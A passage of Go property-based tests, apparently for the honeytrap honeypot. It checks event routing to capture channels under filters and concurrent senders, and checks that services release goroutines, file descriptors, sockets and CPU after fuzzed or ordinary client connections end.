			if !(chi && shi) {
				no = true
			}
		}
		if yes && no {
			return true
		}
	}
	return false
}

func TestRouting(t *testing.T) {
	r := vlib.Open(prop)
	var rc routeCase
	if vlib.ReplayCase("TestRouting", &rc) {
		if err := checkRoute(rc); err != nil {
			r.Violation(t, "TestRouting", rc, err.Error())
		}
		return
	}
	r.Rule("configurations of 1..3 capture channels and 0..4 filters (channel lists incl. unknown names, category/service lists absent or 1..3 expressions from a regex alphabet) x 1..20 events whose category/service are matching, non-matching, missing or non-string and of which about a third already hold a value under the pipeline-written key token when put on the bus (empty, non-string, another string, the sensor token or a prefix of it), through the real Run() wiring and bus; oracle = reference subscription model (multiplicity and order per channel; every delivered event holds the sensor token, as a string, under token - whatever it held before); non-trivial = >=2 subscriptions and an event admitted by one and rejected by another; distinct by configuration+stream")
	start := time.Now()
	r.Rapid(t, "TestRouting", r.Pick(8000, 60000), func(rt *rapid.T) {
		c := genCase(rt)
		fp := ""
		if nontrivial(c) {
			fp = vlib.JSON(c)
		}
		r.Case(fmt.Sprintf("route/channels=%d/filters=%d", len(c.Channels), len(c.Filters)), fp, func() interface{} { return c })
		r.Label("route/events-with-own-token", presetTokens(c.Events))
		if err := checkRoute(c); err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				rt.Fatalf("%v", err)
			}
			r.Fail(rt, "TestRouting", c, "%v", err)
		}
	})
	_ = start
}

type indepCase struct {
	Case    routeCase `json:"case"`
	Channel string    `json:"channel"`
}

func TestIndependence(t *testing.T) {
	r := vlib.Open(prop)
	var ic indepCase
	if vlib.ReplayCase("TestIndependence", &ic) {
		if err := checkIndependence(ic.Case, ic.Channel); err != nil {
			r.Violation(t, "TestIndependence", ic, err.Error())
		}
		return
	}
	r.Rule("metamorphic: a channel's received list is unchanged when all other channels and the filters not naming it are removed")
	r.Rapid(t, "TestIndependence", r.Pick(2500, 20000), func(rt *rapid.T) {
		c := genCase(rt)
		ch := rapid.SampledFrom(c.Channels).Draw(rt, "channel")
		fp := ""
		if nontrivial(c) && len(c.Channels) > 1 {
			fp = vlib.JSON(c) + ch
		}
		r.Case("independence", fp, func() interface{} { return indepCase{c, ch} })
		if err := checkIndependence(c, ch); err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				rt.Fatalf("%v", err)
			}
			r.Fail(rt, "TestIndependence", indepCase{c, ch}, "%v", err)
		}
	})
}

// ---------------------------------------------------------------------------
// Schedule dimension: the same routing oracle with 2..8 goroutines sending at once.
// Services send from many connection goroutines concurrently in the real server, and
// the statement ("an event put on the bus is delivered ... to each configured channel")
// does not depend on who else is sending. A case is one configuration and, per sender,
// the list of events it sends in every burst; the case runs many short bursts on one
// server: all senders are released together, the burst ends when every Send returned,
// and then each channel must hold exactly what the reference model says for the events
// of that burst (multiset per sender/event, each sender's events in its sending order,
// token on every event). Nothing else is sent between the end of a burst and its
// verdict, so an event still missing after a long silence is lost, not late.

type concCase struct {
	Channels []string     `json:"channels"`
	Kinds    []int        `json:"kinds"` // per channel: 0 = lab capture (serialises every event), 1 = light capture (snapshot only)
	Filters  []filterSpec `json:"filters"`
	Senders  [][]evSpec   `json:"senders"` // per sender: the events it sends, in order, in every burst
	Pace     []int        `json:"pace"`    // per sender: 0 = events pre-built, sent back to back; k>0 = event built between sends plus k-1 units of other work
	Yield    []bool       `json:"yield"`   // per sender: yield the processor after every Send
	Bursts   int          `json:"bursts"`
}

// concSettle is how long a channel may stay short of an admitted event, with every Send
// returned and nothing else being sent, before the event counts as lost. (On a bus that
// delivers before Send returns this wait is never entered.)
const concSettle = 3 * time.Second

// lightCapture is a capture channel (type "c06-light", registered through the public
// channel registry like lab's) that snapshots the event without serialising it: channels
// in the real server differ widely in how long Send takes, and the time a delivery takes
// decides how the sends of concurrent senders interleave with the fan-out.
type lightCapture struct {
	ID string `toml:"id"`

	mu     sync.Mutex
	events []lab.Ev
}

var (
	lightMu  sync.Mutex
	lightReg = map[string]*lightCapture{}
)

func init() {
	pushers.Register("c06-light", func(options ...func(pushers.Channel) error) (pushers.Channel, error) {
		c := &lightCapture{}
		for _, o := range options {
			o(c)
		}
		lightMu.Lock()
		lightReg[c.ID] = c
		lightMu.Unlock()
		return c, nil
	})
}

func (c *lightCapture) Send(e event.Event) {
	ev := lab.Ev{M: event.ToMap(e)}
	c.mu.Lock()
	c.events = append(c.events, ev)
	c.mu.Unlock()
}

// tail returns the events held from raw position off on, and the new raw length.
func (c *lightCapture) tail(off int) (tail []lab.Ev, n int) {
	c.mu.Lock()
	defer c.mu.Unlock()
	n = len(c.events)
	if off < n {
		tail = append(tail, c.events[off:]...)
	}
	return tail, n
}

// tailOf is the same for a lab capture.
func tailOf(cap *lab.Capture, off int) (tail []lab.Ev, n int) {
	cap.WaitFor(0, func(evs []lab.Ev) bool {
		n = len(evs)
		if off < n {
			tail = append(tail, evs[off:]...)
		}
		return true
	})
	return tail, n
}

func (c concCase) toml(id string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "[listener]\ntype=\"verif-mem\"\nid=%q\n\n", id)
	fmt.Fprintf(&b, "[service.stub]\ntype=\"verif-plain\"\nid=%q\n\n", id+"-stub")
	for i, ch := range c.Channels {
		typ := "verif-capture"
		if c.Kinds[i] == 1 {
			typ = "c06-light"
		}
		fmt.Fprintf(&b, "[channel.%s]\ntype=%q\nid=%q\n\n", ch, typ, id+"-"+ch)
	}
	for _, f := range c.Filters {
		fmt.Fprintf(&b, "[[filter]]\nchannel=%s\n", tomlList(f.Channels))
		if f.Categories != nil {
			fmt.Fprintf(&b, "categories=%s\n", tomlList(f.Categories))
		}
		if f.Services != nil {
			fmt.Fprintf(&b, "services=%s\n", tomlList(f.Services))
		}
		b.WriteString("\n")
	}
	return b.String()
}

func mkEventFrom(sender, n int, e evSpec) event.Event {
	ev := mkEvent(n, e)
	ev.Store("c06.s", sender)
	return ev
}

var workSink uint32

// work is sender-side work between two sends (a service preparing its next event):
// pure computation, about a quarter of a microsecond per unit.
func work(units int) {
	x := uint32(units) + 1
	for i := 0; i < units*256; i++ {
		x = x*1664525 + 1013904223
	}
	atomic.AddUint32(&workSink, x)
}

// chanState is what is carried from burst to burst for one channel.
type chanState struct {
	off   int            // raw position in the capture up to which everything has been judged
	last  []int          // per sender: highest event number received so far
	allow map[[2]int]int // (sender, event number) of earlier bursts -> deliveries the model still permits (range verdicts)
}

// judgeBurst compares what one channel received since the previous verdict with the model
// for burst b. short = the only complaint is a missing delivery (it may still arrive);
// err = definite. An event of an earlier burst may arrive now only as far as the model's
// range for it was not used up (late is not wrong; duplicated or reordered is).
// commit() folds the accepted tail into the state.
func judgeBurst(c concCase, ch string, b int, st *chanState, tail []lab.Ev, exp [][]delivery, tok string) (short string, commit func(), err error) {
	cnt := make([][]int, len(c.Senders))
	last := append([]int(nil), st.last...)
	for s := range c.Senders {
		cnt[s] = make([]int, len(c.Senders[s]))
	}
	lateUsed := map[[2]int]int{}
	for _, ev := range tail {
		if ev.Str("sensor") != "c06" {
			continue // server's own events (heartbeat)
		}
		s, ok1 := ev.M["c06.s"].(int)
		n, ok2 := ev.M["c06.n"].(int)
		if !ok1 || !ok2 || s < 0 || s >= len(c.Senders) || n < 0 {
			return "", nil, fmt.Errorf("channel %s received an event that was never sent: %s", ch, ev.Canon())
		}
		k := len(c.Senders[s])
		if n >= (b+1)*k {
			return "", nil, fmt.Errorf("channel %s received event #%d of sender %d during burst %d, but that sender has only sent up to #%d (invented delivery)", ch, n, s, b, (b+1)*k-1)
		}
		if n < last[s] {
			return "", nil, fmt.Errorf("channel %s received event #%d of sender %d after its event #%d (sending order of one sender violated)", ch, n, s, last[s])
		}
		last[s] = n
		if n < b*k {
			key := [2]int{s, n}
			lateUsed[key]++
			if lateUsed[key] > st.allow[key] {
				e := c.Senders[s][n%k]
				d := exp[s][n%k]
				return "", nil, fmt.Errorf("channel %s received event #%d of sender %d (category=%q service=%q, sent in burst %d) once more during burst %d although it had already received it as often as the reference model allows (%d..%d): duplicate delivery; filters=%s", ch, n, s, e.Category, e.Service, n/k, b, d.lo, d.hi, vlib.JSON(c.Filters))
			}
		} else {
			cnt[s][n-b*k]++
		}
		if err := tokenOK(ev, tok); err != nil {
			was := "no token key"
			if e := c.Senders[s][n%k]; e.Token != "" {
				was = "token=" + e.Token
			}
			return "", nil, fmt.Errorf("channel %s: delivered event #%d of sender %d (put on the bus with %s) %v", ch, n, s, was, err)
		}
		if ev.SerErr != "" {
			return "", nil, fmt.Errorf("delivered event does not serialise: %s", ev.SerErr)
		}
	}
	for s := range cnt {
		for i, got := range cnt[s] {
			d := exp[s][i]
			e := c.Senders[s][i]
			if got > d.hi {
				return "", nil, fmt.Errorf("channel %s received event #%d of sender %d (category=%q service=%q) %d times in burst %d, reference model says %d..%d; %d concurrent senders, filters=%s", ch, b*len(cnt[s])+i, s, e.Category, e.Service, got, b, d.lo, d.hi, len(c.Senders), vlib.JSON(c.Filters))
			}
			if got < d.lo && short == "" {
				short = fmt.Sprintf("channel %s received event #%d of sender %d (category=%q service=%q) %d times, reference model says %d..%d: sent in burst %d by one of %d concurrent senders", ch, b*len(cnt[s])+i, s, e.Category, e.Service, got, d.lo, d.hi, b, len(c.Senders))
			}
		}
	}
	commit = func() {
		st.last = last
		for key, u := range lateUsed {
			if st.allow[key] -= u; st.allow[key] <= 0 {
				delete(st.allow, key)
			}
		}
		for s := range cnt {
			for i, got := range cnt[s] {
				if rest := exp[s][i].hi - got; rest > 0 {
					st.allow[[2]int{s, b*len(cnt[s]) + i}] = rest
				}
			}
		}
	}
	return short, commit, nil
}

func checkConc(c concCase) error {
	if len(c.Senders) == 0 || len(c.Pace) != len(c.Senders) || len(c.Yield) != len(c.Senders) || len(c.Kinds) != len(c.Channels) || c.Bursts < 1 {
		return fmt.Errorf("infra: malformed case")
	}
	id := lab.NextID()
	srv, err := lab.Start(id, c.toml(id), true)
	if err != nil {
		return fmt.Errorf("infra: %v", err)
	}
	defer srv.Stop()
	stub := lab.GetStub(id + "-stub")
	if stub == nil || stub.Bus() == nil {
		return fmt.Errorf("infra: stub service was not given a channel")
	}
	bus := stub.Bus()
	ids := []string{id, id + "-stub"}
	tails := map[string]func(off int) ([]lab.Ev, int){}
	for i, ch := range c.Channels {
		cid := id + "-" + ch
		ids = append(ids, cid)
		if c.Kinds[i] == 1 {
			lightMu.Lock()
			lc := lightReg[cid]
			delete(lightReg, cid)
			lightMu.Unlock()
			if lc == nil {
				return fmt.Errorf("infra: light capture channel %s missing", ch)
			}
			tails[ch] = lc.tail
			defer func() {
				// the instance may outlive the case in goroutines Run leaves behind
				lc.mu.Lock()
				lc.events = nil
				lc.mu.Unlock()
			}()
		} else {
			cap := lab.GetCapture(cid)
			if cap == nil {
				return fmt.Errorf("infra: capture channel %s missing", ch)
			}
			tails[ch] = func(off int) ([]lab.Ev, int) { return tailOf(cap, off) }
		}
	}
	defer lab.Forget(ids...)
	tok := token()
	if len(tok) == 0 {
		return fmt.Errorf("infra: no token file")
	}
	// exp[ch][sender][i]
	exp := map[string][][]delivery{}
	for s := range c.Senders {
		e := expect(c.Channels, c.Filters, c.Senders[s])
		for _, ch := range c.Channels {
			exp[ch] = append(exp[ch], e[ch])
		}
	}
	state := map[string]*chanState{}
	for _, ch := range c.Channels {
		st := &chanState{allow: map[[2]int]int{}}
		for range c.Senders {
			st.last = append(st.last, -1)
		}
		state[ch] = st
	}
	ns := int32(len(c.Senders))
	for b := 0; b < c.Bursts; b++ {
		var ready int32
		var wg sync.WaitGroup
		for s := range c.Senders {
			wg.Add(1)
			go func(s int) {
				defer wg.Done()
				specs := c.Senders[s]
				base := b * len(specs)
				var pre []event.Event
				if c.Pace[s] == 0 {
					for i, e := range specs {
						pre = append(pre, mkEventFrom(s, base+i, e))
					}
				}
				// all senders leave the barrier together
				atomic.AddInt32(&ready, 1)
				for atomic.LoadInt32(&ready) < ns {
					runtime.Gosched()
				}
				for i, e := range specs {
					if c.Pace[s] == 0 {
						bus.Send(pre[i])
					} else {
						work(c.Pace[s] - 1)
						bus.Send(mkEventFrom(s, base+i, e))
					}
					if c.Yield[s] {
						runtime.Gosched()
					}
				}
			}(s)
		}
		wg.Wait()
		// every Send has returned and nothing is being sent: verdict per channel
		for _, ch := range c.Channels {
			st := state[ch]
			tail, n := tails[ch](st.off)
			short, commit, err := judgeBurst(c, ch, b, st, tail, exp[ch], tok)
			if err != nil {
				return err
			}
			if short != "" {
				deadline := time.Now().Add(concSettle)
				for short != "" && time.Now().Before(deadline) {
					time.Sleep(10 * time.Millisecond)
					tail, n = tails[ch](st.off)
					if short, commit, err = judgeBurst(c, ch, b, st, tail, exp[ch], tok); err != nil {
						return err
					}
				}
				if short != "" {
					return fmt.Errorf("%s; still missing after every Send had returned and %v without any further Send (event lost); filters=%s", short, concSettle, vlib.JSON(c.Filters))
				}
			}
			commit()
			st.off = n
		}
	}
	return nil
}

func genConc(t *rapid.T) concCase {
	all := []string{"c1", "c2", "c3"}
	nch := rapid.IntRange(1, 3).Draw(t, "nch")
	c := concCase{Channels: all[:nch]}
	for i := 0; i < nch; i++ {
		c.Kinds = append(c.Kinds, rapid.IntRange(0, 1).Draw(t, "kind"))
	}
	nf := rapid.IntRange(1, 4).Draw(t, "nf")
	for i := 0; i < nf; i++ {
		names := rapid.SliceOfNDistinct(rapid.SampledFrom([]string{"c1", "c2", "c3", "ghost"}), 1, 3, rapid.ID[string]).Draw(t, "names")
		c.Filters = append(c.Filters, filterSpec{Channels: names, Categories: genExprs(t, "cat"), Services: genExprs(t, "svc")})
	}
	ns := rapid.IntRange(2, 8).Draw(t, "senders")
	for s := 0; s < ns; s++ {
		ne := rapid.IntRange(1, 6).Draw(t, "ne")
		var evs []evSpec
		for i := 0; i < ne; i++ {
			evs = append(evs, genEvent(t))
		}
		c.Senders = append(c.Senders, evs)
		c.Pace = append(c.Pace, rapid.SampledFrom([]int{0, 1, 1, 2, 3, 5, 9, 17, 33}).Draw(t, "pace"))
		c.Yield = append(c.Yield, rapid.IntRange(0, 3).Draw(t, "yield") == 0)
	}
	c.Bursts = rapid.IntRange(20, 400).Draw(t, "bursts")
	return c
}

// concNontrivial: at least two senders each send an event some channel must receive.
func concNontrivial(c concCase) bool {
	n := 0
	for s := range c.Senders {
		e := expect(c.Channels, c.Filters, c.Senders[s])
		must := false
		for _, ds := range e {
			for _, d := range ds {
				if d.lo > 0 {
					must = true
				}
			}
		}
		if must {
			n++
		}
	}
	return n >= 2
}

func TestConcurrentSenders(t *testing.T) {
	r := vlib.Open(prop)
	var cc concCase
	if vlib.ReplayCase("TestConcurrentSenders", &cc) {
		// the case fixes configuration, streams and pacing but not the interleaving of the
		// senders: repeat it (bounded effort; passing is not a verdict about the schedule)
		for i := 0; i < 400; i++ {
			if err := checkConc(cc); err != nil {
				if strings.HasPrefix(err.Error(), "infra:") {
					t.Fatalf("%v", err)
				}
				r.Violation(t, "TestConcurrentSenders", cc, err.Error())
				return
			}
		}
		return
	}
	r.Rule("schedule dimension: configurations of 1..3 channels (lab capture or a light snapshot-only capture, both through the public registry) and 1..4 filters x 2..8 concurrent senders (each 1..6 events per burst over the value alphabet, about a third already holding a token value of their own; pre-built back-to-back, or built inline with 0..32 units of work between sends; optionally yielding after each Send) x 20..400 bursts on one server through the real Run() wiring; all senders of a burst are released together; after every Send of the burst returned each channel must hold exactly the reference model's multiset for that burst, each sender's events in its own sending order, token on every event; a missing delivery is a violation only if it is still missing after 3 s in which nothing is sent; non-trivial = >=2 senders each with an event some channel must receive; distinct by configuration+streams+pacing")
	r.Rapid(t, "TestConcurrentSenders", r.Pick(400, 4000), func(rt *rapid.T) {
		c := genConc(rt)
		fp := ""
		if concNontrivial(c) {
			fp = vlib.JSON(c)
		}
		r.Case(fmt.Sprintf("concurrent/senders=%d", len(c.Senders)), fp, func() interface{} { return c })
		r.Label("concurrent/bursts", int64(c.Bursts))
		for _, evs := range c.Senders {
			r.Label("concurrent/events-with-own-token", presetTokens(evs)*int64(c.Bursts))
		}
		if err := checkConc(c); err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				rt.Fatalf("%v", err)
			}
			r.Fail(rt, "TestConcurrentSenders", c, "%v", err)
		}
	})
}
