package c09

import (
	"fmt"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"pgregory.net/rapid"

	"verif/svc"
	"verif/vlib"
)

const prop = "C09"

func TestMain(m *testing.M) { vlib.Main(m, prop) }

type connCase struct {
	Service string         `json:"service"`
	UDP     bool           `json:"udp,omitempty"`
	Units   []string       `json:"units_hex,omitempty"`
	SSH     *svc.SSHScript `json:"ssh,omitempty"`
	Seg     string         `json:"segmentation"`
	End     string         `json:"end"`
	Kind    string         `json:"kind"`
	Note    string         `json:"note,omitempty"`
	// LingerMs: the client waits until the server has been quiet for this long before it ends
	// the connection (an interactive client reads the replies; 0 = sends and leaves at once)
	LingerMs int `json:"linger_ms,omitempty"`
	// Poison: one odd connection served first; the measured connections are the ordinary
	// ones after it (state an earlier client left behind must not make later ones leak)
	Poison *connCase `json:"poison,omitempty"`
}

func (c connCase) wire() svc.WireScript {
	w := svc.WireScript{Service: c.Service, UDP: c.UDP, End: c.End, SSH: c.SSH, LingerMs: c.LingerMs}
	var stream []byte
	var units [][]byte
	for _, u := range c.Units {
		b := vlib.UnHex(u)
		units = append(units, b)
		stream = append(stream, b...)
	}
	if c.UDP || c.Seg == "units" {
		for _, u := range units {
			if len(u) > 0 || c.UDP {
				w.Steps = append(w.Steps, svc.WireStep{D: vlib.Hex(u)})
			}
		}
	} else if len(stream) > 0 {
		w.Steps = []svc.WireStep{{D: vlib.Hex(stream)}}
	}
	return w
}

var (
	childMu sync.Mutex
	child   *svc.Child
)

func getChild() (*svc.Child, error) {
	childMu.Lock()
	defer childMu.Unlock()
	if child != nil && child.Alive() {
		return child, nil
	}
	if child != nil {
		child.Stop()
	}
	c, err := svc.StartChild(nil)
	if err != nil {
		return nil, err
	}
	child = c
	return c, nil
}

func dropChild() {
	childMu.Lock()
	if child != nil {
		child.Stop()
		child = nil
	}
	childMu.Unlock()
}

type usage struct {
	frames map[string]int
	total  int
	fds    int
	listen int
	cpu    int64
}

func measure(c *svc.Child) (usage, error) {
	r, err := c.Do(svc.Request{Op: "stats"}, 60*time.Second)
	if err != nil {
		return usage{}, err
	}
	u := usage{frames: r.Stats.HTFrames, fds: r.Stats.FDs, listen: r.Stats.Listening, cpu: r.Stats.CPUMs}
	for _, n := range u.frames {
		u.total += n
	}
	return u, nil
}

// above reports what b holds in excess of a.
func above(a, b usage) string {
	var parts []string
	keys := make([]string, 0, len(b.frames))
	for k := range b.frames {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		if d := b.frames[k] - a.frames[k]; d > 0 {
			parts = append(parts, fmt.Sprintf("+%d goroutines in %s", d, strings.TrimPrefix(k, "github.com/honeytrap/honeytrap/")))
		}
	}
	if b.fds > a.fds {
		parts = append(parts, fmt.Sprintf("+%d file descriptors", b.fds-a.fds))
	}
	if b.listen > a.listen {
		parts = append(parts, fmt.Sprintf("+%d listening sockets", b.listen-a.listen))
	}
	return strings.Join(parts, ", ")
}

func excess(a, b usage) int {
	n := 0
	for k, v := range b.frames {
		if d := v - a.frames[k]; d > 0 {
			n += d
		}
	}
	if b.fds > a.fds {
		n += b.fds - a.fds
	}
	if b.listen > a.listen {
		n += b.listen - a.listen
	}
	return n
}

func runN(c *svc.Child, cc connCase, n int) (notClosed int, nontrivial bool, err error) {
	// sequential connections: one request per connection keeps them strictly one after another
	for i := 0; i < n; i++ {
		resp, e := c.Do(svc.Request{Op: "run", Scripts: []svc.WireScript{cc.wire()}, WaitMs: 20000}, 120*time.Second)
		if e != nil {
			return 0, nontrivial, e
		}
		for _, r := range resp.Conns {
			if !cc.UDP && !r.Closed {
				notClosed++
			}
			if r.Events > 0 || r.Replies > 0 || r.Consumed > 0 {
				nontrivial = true
			}
		}
	}
	return notClosed, nontrivial, nil
}

const batch = 6

type culprit struct {
	cc  connCase
	err error
}

func (c *culprit) Error() string { return c.err.Error() }

var history []connCase // cases the current child has served

func verdict(err error) bool {
	return err != nil && !strings.HasPrefix(err.Error(), "infra:") && !strings.HasPrefix(err.Error(), "inconclusive:")
}

// checkRelease makes the verdict a function of the case alone: a failure seen on a child
// that served earlier cases is confirmed on a fresh child; if it does not reproduce, the
// earlier cases are re-run one by one on fresh children to find the one that left the
// process leaking or spinning; otherwise the observation is recorded as flaky.
func checkRelease(cc connCase) (bool, error) {
	nt, err := releaseOnce(cc)
	if !verdict(err) {
		if err == nil {
			history = append(history, cc)
		} else {
			history = nil
		}
		return nt, err
	}
	past := history
	history = nil
	dropChild()
	if len(past) == 0 {
		return nt, err
	}
	if nt2, err2 := releaseOnce(cc); verdict(err2) {
		dropChild()
		return nt2, err2
	}
	if len(past) > 40 {
		past = past[len(past)-40:]
	}
	for i := len(past) - 1; i >= 0; i-- {
		dropChild()
		if _, e := releaseOnce(past[i]); verdict(e) {
			dropChild()
			return nt, &culprit{past[i], e}
		}
	}
	// not a single case: an earlier client of the same service may have left state behind that
	// makes the later connections leak or spin (history): try the pairs (earlier case, this case)
	if cc.Poison == nil {
		tried := 0
		for i := len(past) - 1; i >= 0 && tried < 12; i-- {
			if past[i].Service != cc.Service || past[i].SSH != nil || past[i].UDP != cc.UDP {
				continue
			}
			tried++
			pair := cc
			first := past[i]
			first.Poison = nil
			first.Kind = "poison"
			pair.Poison = &first
			pair.Kind = "after-odd-client"
			dropChild()
			if _, e := releaseOnce(pair); verdict(e) {
				dropChild()
				return nt, &culprit{pair, e}
			}
		}
	}
	dropChild()
	vlib.Open(prop).Flaky("not attributable to a single case (or a pair of cases) on a fresh process: " + head(err.Error(), 400))
	return nt, nil
}

func releaseOnce(cc connCase) (bool, error) {
	c, err := getChild()
	if err != nil {
		return false, fmt.Errorf("infra: %v", err)
	}
	fail := func(e error) (bool, error) {
		switch e.(type) {
		case *svc.ErrDead, *svc.ErrStuck:
			dropChild()
			// process death / hang is C01's verdict; here it only makes the measurement impossible
			return false, fmt.Errorf("inconclusive: %v", head(e.Error(), 200))
		}
		return false, fmt.Errorf("infra: %v", e)
	}
	if cc.Poison != nil {
		if _, _, e := runN(c, *cc.Poison, 1); e != nil {
			return fail(e)
		}
	}
	// warm-up (lazy initialisation happens once, it is not a per-connection cost)
	t0 := time.Now()
	if _, _, e := runN(c, cc, 2); e != nil {
		return fail(e)
	}
	batch := batch
	if time.Since(t0) > 6*time.Second {
		batch = 2 // connections that take seconds to wind down (bounded waits inside the service): fewer of them
	}
	a, e := settle(c, usage{}, false)
	if e != nil {
		return fail(e)
	}
	notClosed, nt, e := runN(c, cc, batch)
	if e != nil {
		return fail(e)
	}
	if notClosed > 0 {
		dropChild()
		return nt, fmt.Errorf("%d of %d connections were not closed by the server within 20 s after the client %s", notClosed, batch, endWord(cc.End))
	}
	b, e := settle(c, a, true)
	if e != nil {
		return fail(e)
	}
	if excess(a, b) > 0 {
		// does it keep growing with the number of connections? (two history lengths)
		if _, _, e := runN(c, cc, batch); e != nil {
			return fail(e)
		}
		c2, e := settle(c, b, true)
		if e != nil {
			return fail(e)
		}
		if excess(a, c2) > excess(a, b) && excess(b, c2) > 0 {
			dropChild()
			return nt, fmt.Errorf("resources grow with every past connection: after %d connections %s; after %d more: %s", batch, above(a, b), batch, above(b, c2))
		}
		b = c2
	}
	// idle CPU: nothing may keep spinning for a past connection
	u0, e := measure(c)
	if e != nil {
		return fail(e)
	}
	time.Sleep(250 * time.Millisecond)
	u1, e := measure(c)
	if e != nil {
		return fail(e)
	}
	if u1.cpu-u0.cpu > 200 {
		time.Sleep(1000 * time.Millisecond)
		u2, e := measure(c)
		if e != nil {
			return fail(e)
		}
		if u2.cpu-u1.cpu > 700 {
			dropChild()
			return nt, fmt.Errorf("process burns CPU while idle after the connections ended: %d ms CPU in a 1 s window (busy loop left behind)", u2.cpu-u1.cpu)
		}
	}
	return nt, nil
}

// settle measures until the usage stops shrinking (goroutines of finished handlers need a moment to exit).
func settle(c *svc.Child, ref usage, compare bool) (usage, error) {
	var u usage
	var err error
	// some resources are released by a bounded wait inside the service (e.g. the 10 s accept
	// deadline of an FTP passive socket nobody connected to): "released" is judged after 14 s
	start := time.Now()
	for i := 0; ; i++ {
		u, err = measure(c)
		if err != nil {
			return u, err
		}
		if !compare || excess(ref, u) == 0 || time.Since(start) > 14*time.Second {
			return u, nil
		}
		d := time.Duration(150*(i+1)) * time.Millisecond
		if d > 2*time.Second {
			d = 2 * time.Second
		}
		time.Sleep(d)
	}
}

func endWord(e string) string {
	if e == "reset" {
		return "reset the connection"
	}
	return "closed its side"
}

func head(s string, n int) string {
	if len(s) > n {
		return s[:n] + "..."
	}
	return s
}

func hexUnits(u [][]byte) []string {
	out := make([]string, len(u))
	for i := range u {
		out[i] = vlib.Hex(u[i])
	}
	return out
}

func genConn(t *rapid.T) connCase {
	service := rapid.SampledFrom(svc.AllServices).Draw(t, "service")
	c := connCase{Service: service, Kind: rapid.SampledFrom([]string{"grammar", "grammar", "mutated", "raw", "ftp-passive"}).Draw(t, "kind")}
	switch c.Kind {
	case "ftp-passive":
		c.Service = "ftp"
		// passive mode requested, data port never connected to; then a command that needs the
		// data connection, or one that fails inside the command handler
		c.Units = hexUnits([][]byte{[]byte("USER anonymous\r\n"), []byte("PASS anonymous\r\n"),
			[]byte(rapid.SampledFrom([]string{"PASV", "EPSV", "PASV\r\nPASV", "NOOP"}).Draw(t, "pasv") + "\r\n"),
			[]byte(rapid.SampledFrom([]string{"NOOP", "NOOP", "LIST", "NLST", "RETR f", "STOR x", "APPE x", "EPRT |1|h", "PORT 1,2", "EPRT |1|127.0.0.1|1|"}).Draw(t, "then") + "\r\n")})
	case "raw":
		p := svc.PortOf(service)
		c.UDP = p.UDP && (!p.TCP || rapid.Bool().Draw(t, "udp"))
		c.Units = hexUnits(svc.RawBytes(t, 1024))
	default:
		tr := svc.GenTraffic(t, service)
		c.UDP, c.SSH = tr.UDP, tr.SSH
		units := tr.Units
		if c.Kind == "mutated" && tr.SSH == nil {
			units, c.Note = svc.Mutate(t, units)
		}
		c.Units = hexUnits(units)
	}
	c.Seg = rapid.SampledFrom([]string{"units", "single"}).Draw(t, "seg")
	c.End = rapid.SampledFrom([]string{"close", "close", "reset"}).Draw(t, "end")
	c.LingerMs = rapid.SampledFrom([]int{0, 0, 0, 60}).Draw(t, "linger")
	if c.Kind == "grammar" && c.SSH == nil && rapid.IntRange(0, 2).Draw(t, "poisoned") == 0 {
		// history: an odd client first, then ordinary ones
		tr := svc.GenTraffic(t, c.Service)
		if tr.SSH == nil && tr.UDP == c.UDP {
			units := tr.Units
			note := "grammar"
			if rapid.Bool().Draw(t, "poisonmut") {
				units, note = svc.Mutate(t, units)
			}
			c.Poison = &connCase{Service: c.Service, UDP: c.UDP, Units: hexUnits(units), Seg: "units", End: "close", Kind: "poison", Note: note, LingerMs: rapid.SampledFrom([]int{0, 60}).Draw(t, "poison-linger")}
			c.Kind = "after-odd-client"
		}
	}
	return c
}

func TestRelease(t *testing.T) {
	t.Parallel() // runs next to TestSilence, whose cost is waiting
	r := vlib.Open(prop)
	defer dropChild()
	var cc connCase
	if vlib.ReplayCase("TestRelease", &cc) {
		if _, err := checkRelease(cc); err != nil && !strings.HasPrefix(err.Error(), "inconclusive:") {
			if strings.HasPrefix(err.Error(), "infra:") {
				t.Fatalf("%v", err)
			}
			r.Violation(t, "TestRelease", cc, err.Error())
		}
		return
	}
	r.Rule("24 services x {grammar, mutated, raw, ftp passive-mode never connected to} traffic followed by client close / reset (TCP) or as datagrams (UDP), in a lab child: 2 warm-up connections, then 6 sequential connections, then (if anything is held) 6 more; oracle = every connection closed by the server within 20 s of the client's end; goroutines in honeytrap frames, /proc/self/fd count and listening sockets after N connections equal those before (difference must not grow between the two history lengths); process CPU below 70% of an idle 1 s window; non-trivial = handler got past its first read; distinct by connection script")
	r.Rapid(t, "TestRelease", r.Pick(14, 500), func(rt *rapid.T) {
		c := genConn(rt)
		nt, err := checkRelease(c)
		fp := ""
		if nt {
			fp = vlib.JSON(c)
		}
		r.Case(fmt.Sprintf("release/%s/%s/%s", c.Service, c.Kind, c.End), fp, func() interface{} {
			return map[string]interface{}{"service": c.Service, "kind": c.Kind, "note": c.Note, "end": c.End, "units": len(c.Units)}
		})
		if err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				rt.Fatalf("%v", err)
			}
			if strings.HasPrefix(err.Error(), "inconclusive:") {
				r.Label("inconclusive-process-died-or-hung(see C01)", 1)
				return
			}
			if cu, ok := err.(*culprit); ok {
				r.Fail(rt, "TestRelease", cu.cc, "%v", cu.err)
			}
			r.Fail(rt, "TestRelease", c, "%v", err)
		}
	})
}

// ---------------------------------------------------------------- silence: one batch inside a single idle-timeout wait

type silenceCase struct {
	Service string `json:"service"`
	Stage   string `json:"stage"` // nothing | partial | after-first-unit | after-unit | mid-dialogue
	Sent    string `json:"sent_hex"`
}

func TestSilence(t *testing.T) {
	t.Parallel()
	r := vlib.Open(prop)
	var sc silenceCase
	replay := vlib.ReplayCase("TestSilence", &sc)
	if vlib.Replaying() && !replay {
		return
	}
	if i, _ := r.Shard(); i != 0 && !replay {
		return // one batch per run is enough: the wait dominates
	}
	r.Rule("silence at every protocol stage (before the first byte, inside the first unit, after every complete unit of 5 generated dialogues, inside the last unit) for every TCP service, all connections of the batch opened together and left silent: each must be closed by the server within 4 idle periods (30 s each, the deadline is re-armed per read) + slack; distinct by (service, stage, bytes sent)")
	var cases []silenceCase
	if replay {
		cases = []silenceCase{sc}
	} else {
		// grammar samples drawn with a fixed rapid seed for reproducibility
		g := rapid.Custom(func(t *rapid.T) []silenceCase {
